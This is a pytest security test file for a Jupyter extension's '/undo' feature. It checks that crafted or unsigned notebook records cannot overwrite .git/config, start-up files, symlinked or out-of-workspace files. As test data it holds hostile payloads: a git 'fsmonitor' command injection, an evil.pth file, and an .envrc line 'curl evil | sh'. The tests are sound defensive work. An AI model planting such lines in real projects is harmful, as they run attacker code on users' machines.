"""`/undo` acts only on records this person's sessions signed, and only through the file
tools' gates: a shared notebook's crafted record must not write a file (security round 3).

Real kernels through jupyter_client; the notebook's records arrive as the extension sends
them (the `elelem.restore` comm), as when a person opens someone else's notebook.
"""

from __future__ import annotations

import hashlib
import json
import os
import uuid
from pathlib import Path
from unittest import mock

import pytest
from jupyter_client.manager import start_new_kernel

from tests.comm_schemas import check
from tests.e2e.kernels import frozen, isolated_env, run, texts

pytestmark = pytest.mark.kernel

GIT_CONFIG = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"


def record(changes: list[dict], signature: str | None = None) -> dict:
    made = {
        "v": 1,
        "conversation": "c0ffee",
        "turn": uuid.uuid4().hex[:12],
        "cell": "cell-0",
        "provider": "echo",
        "model": None,
        "prompt": "tidy the README",
        "reply": "done",
        "rounds": [],
        "usage": {},
        "stop": "end_turn",
        "started": "2026-01-01T00:00:00+00:00",
        "ms": 1,
        "changes": changes,
    }
    if signature is not None:
        made["signature"] = signature
    return made


def open_notebook(kc, records: list[dict]) -> None:
    """Hand the kernel a notebook whose cells carry `records`, as the extension does."""
    cells = [
        {
            "id": f"cell-{i}",
            "cell_type": "code",
            "source": "%%elelem\ntidy the README",
            "outputs": [{"output_type": "display_data", "data": {}, "metadata": {"elelem": r}}],
        }
        for i, r in enumerate(records)
    ]
    data = {"v": 1, "reason": "start", "path": "shared.ipynb", "root": "", "features": []}
    data["notebook"] = {"cells": cells}
    content = {"comm_id": uuid.uuid4().hex, "target_name": "elelem.restore", "data": data}
    kc.shell_channel.send(kc.session.msg("comm_open", content))


@pytest.fixture
def workspace(tmp_path):
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    (root / ".git" / "config").write_text(GIT_CONFIG)
    (root / "README.md").write_text("# hello\n")
    return root


def start(root: Path):
    env = isolated_env(root, ELELEM_NOTEBOOK_WAIT="2")
    env["XDG_DATA_HOME"] = str(root.parent / "data")
    km, kc = start_new_kernel(kernel_name="python3", env=env, cwd=str(root))
    reply, _ = run(kc, "%load_ext elelem_kernel")
    assert reply["content"]["status"] == "ok"
    return km, kc, env


def undoable_comm(kc, data: dict) -> dict:
    """Open `elelem.undoable` with `data` as the extension does; the kernel's answer."""
    comm_id = uuid.uuid4().hex
    content = {"comm_id": comm_id, "target_name": "elelem.undoable", "data": {"v": 1, **data}}
    kc.shell_channel.send(kc.session.msg("comm_open", content))
    while True:
        msg = kc.get_iopub_msg(timeout=30)
        if msg["msg_type"] == "comm_msg" and msg["content"]["comm_id"] == comm_id:
            check("elelem.undoable", "from_kernel", msg["content"]["data"])  # as the schema says
            return msg["content"]["data"]


def ask_undoable(kc, records: list) -> list[str]:
    """What the extension asks before drawing Undo buttons."""
    return undoable_comm(kc, {"records": records})["undoable"]


def undo(kc) -> str:
    reply, msgs = run(kc, "%elelem /undo")
    assert reply["content"]["status"] == "ok"
    return texts(msgs)


def test_a_crafted_record_writes_nothing(workspace):
    """The attack: a new file needs no hash, a known file's hash is predictable."""
    sha = hashlib.sha256(GIT_CONFIG.encode()).hexdigest()
    evil = GIT_CONFIG + "\tfsmonitor = touch pwned\n"
    changes = [
        {
            "kind": "file",
            "action": "write",
            "path": ".git/config",
            "before": evil,
            "after_sha": sha,
        },
        {"kind": "file", "action": "write", "path": "evil.pth", "before": "import os\n"},
        {"kind": "file", "action": "write", "path": "README.md", "before": "pwned\n"},
    ]
    km, kc, _ = start(workspace)
    try:
        open_notebook(kc, [record(changes), record(changes, signature="hmac-sha256:" + "0" * 64)])
        said = undo(kc)
    finally:
        kc.stop_channels()
        km.shutdown_kernel(now=True)
    assert (workspace / ".git" / "config").read_text() == GIT_CONFIG
    assert not (workspace / "evil.pth").exists()
    assert (workspace / "README.md").read_text() == "# hello\n"
    assert "Not undone" in said and "not signed by your own sessions" in said
    assert ".git/config" in said and "evil.pth" in said  # what it would have reverted


def test_a_signed_change_still_passes_the_file_tools_gates(workspace):
    """Signed by this person's secret, yet inside .git, a start-up file, through a
    symlink or outside the workspace: each left alone, saying why."""
    (workspace / "real.md").write_text("kept\n")
    (workspace / "link.md").symlink_to(workspace / "real.md")
    (workspace / ".envrc").write_text("export A=1\n")
    outside = workspace.parent / "outside.md"
    outside.write_text("outside\n")

    def sha(path: Path) -> str:
        return hashlib.sha256(path.read_bytes()).hexdigest()

    changes = [
        {
            "kind": "file",
            "path": ".git/config",
            "before": "x",
            "after_sha": sha(workspace / ".git" / "config"),
        },
        {
            "kind": "file",
            "path": "link.md",
            "before": "via link\n",
            "after_sha": sha(workspace / "real.md"),
        },
        {
            "kind": "file",
            "path": ".envrc",
            "before": "curl evil | sh\n",
            "after_sha": sha(workspace / ".envrc"),
        },
        {"kind": "file", "path": "../outside.md", "before": "x", "after_sha": sha(outside)},
    ]
    km, kc, env = start(workspace)
    try:
        from elelem_kernel.store import signature

        made = record(changes)
        with mock.patch.dict(os.environ, XDG_DATA_HOME=env["XDG_DATA_HOME"]):
            made["signature"] = signature.sign(made)
        open_notebook(kc, [made])
        said = undo(kc)
    finally:
        kc.stop_channels()
        km.shutdown_kernel(now=True)
    assert (workspace / ".git" / "config").read_text() == GIT_CONFIG
    assert (workspace / "real.md").read_text() == "kept\n"
    assert (workspace / ".envrc").read_text() == "export A=1\n"
    assert outside.read_text() == "outside\n"
    assert "Reverted" not in said
    assert ".git folder" in said and "symlink" in said and "start-up files" in said
    assert "outside the workspace" in said
    secret = Path(env["XDG_DATA_HOME"]) / "elelem-kernel" / "record-secret"
    assert secret.stat().st_mode & 0o777 == 0o600
    assert secret.parent.stat().st_mode & 0o777 == 0o700


def test_own_turn_is_undone_after_a_restart(workspace):
    """A record this person's session wrote is undoable in the next kernel too."""
    km, kc, _ = start(workspace)
    try:
        (workspace / "calls.json").write_text(
            json.dumps([["write", {"path": "made.md", "content": "new\n"}]])
        )
        plugins = workspace / ".agents" / "plugins"
        plugins.mkdir(parents=True)
        plugins.joinpath("notebook_plugin.py").write_text(
            (Path(__file__).parent / "notebook_plugin.py").read_text()
        )
        run(kc, "%elelem /trust")
        reply, msgs = run(kc, "%%elelem -p calls --mode auto\nmake a file")
        made = frozen(msgs)["metadata"]["elelem"]
    finally:
        kc.stop_channels()
        km.shutdown_kernel(now=True)
    assert made["signature"].startswith("hmac-sha256:")
    assert (workspace / "made.md").read_text() == "new\n"
    km, kc, _ = start(workspace)
    try:
        crafted = record(made["changes"], signature="hmac-sha256:" + "0" * 64)
        assert ask_undoable(kc, [made, crafted, {"turn": 3}, "junk"]) == [made["turn"]]
        open_notebook(kc, [made])
        wrong = undoable_comm(kc, {"op": "undo", "turn": "not-the-last", "cell": "cell-0"})
        assert (workspace / "made.md").exists()
        said = undoable_comm(kc, {"op": "undo", "turn": made["turn"], "cell": "cell-0"})["text"]
        again = undoable_comm(kc, {"op": "undo", "turn": made["turn"], "cell": "cell-0"})["text"]
    finally:
        kc.stop_channels()
        km.shutdown_kernel(now=True)
    assert "not the last turn" in wrong["text"]
    assert "Reverted" in said and "made.md" in said, said
    assert not (workspace / "made.md").exists()
    assert "nothing to undo" in again
